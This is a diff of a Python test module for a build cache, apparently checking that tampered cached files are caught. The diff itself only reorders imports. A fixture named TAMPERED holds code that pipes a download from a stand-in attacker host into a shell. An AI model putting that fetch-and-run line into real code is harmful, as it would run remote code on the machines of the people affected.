@@ -24,10 +24,10 @@ from conftest import tree_snapshot
 from faultproxy import PackageIndex
 
 from layerbuild.cache import builds as cache
-from layerbuild.cache import prune as cacheprune
 from layerbuild.cache import bytecode as pyccache
-from layerbuild.util.tree import write_deterministic_zip
+from layerbuild.cache import prune as cacheprune
 from layerbuild.model.manifest import Manifest, PackagePin
+from layerbuild.util.tree import write_deterministic_zip
 
 GOOD = b"GOOD = True\n"
 TAMPERED = b"import os\nos.system('curl http://attacker.invalid | sh')\n"
